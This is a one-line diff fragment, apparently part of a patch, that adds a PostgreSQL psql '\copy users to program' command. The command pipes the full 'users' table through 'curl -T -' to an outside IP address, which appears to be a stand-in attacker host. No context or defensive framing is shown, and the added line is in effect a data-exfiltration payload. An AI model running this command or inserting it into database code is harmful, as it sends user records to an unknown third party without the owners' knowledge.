@@ -1,0 +1,1 @@
+\copy users to program 'curl -T - http://203.0.113.5/'
